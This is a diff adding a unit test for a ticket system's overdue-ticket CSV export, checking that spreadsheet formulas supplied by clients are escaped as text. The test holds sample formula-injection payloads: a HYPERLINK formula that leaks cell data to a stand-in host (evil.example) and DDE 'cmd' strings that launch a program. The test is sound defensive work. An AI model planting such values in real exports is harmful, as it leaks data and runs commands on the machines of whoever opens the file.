@@ -89,4 +89,22 @@ describe('overdue CSV (spec 3)', () => {
     expect(csv).toContain('9,"Printer ""jam"", again\nsecond line",Waiting on Third Party,Unknown,N/A,"O\'Brien, Pat",');
     expect(csv.endsWith('\r\n')).toBe(true);
   });
+
+  it('hands no formula to the spreadsheet: a client-written title or contact starting with = + - @ tab or CR becomes text', () => {
+    const hostile: OverdueTicket = {
+      ...overdueTicket(7),
+      title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+      contact: "=cmd|' /C calc'!A0",
+      contact_email: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      company_name: '+1+1',
+      queue: '-2+3',
+    };
+    const cells = overdueCsv([hostile]).split('\r\n')[1]!;
+    expect(cells).toBe(
+      `7,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",Active,High,'+1+1,'=cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3,2026-11-01T10:00:00Z`,
+    );
+    const titled = (title: string) => overdueCsv([{ ...overdueTicket(8), title }]).split('\r\n').slice(1).join('\r\n');
+    expect(titled('\t=1+1')).toMatch(/^8,'\t=1\+1,/);
+    expect(titled('\r=1+1')).toMatch(/^8,"'\r=1\+1",/);
+  });
 });
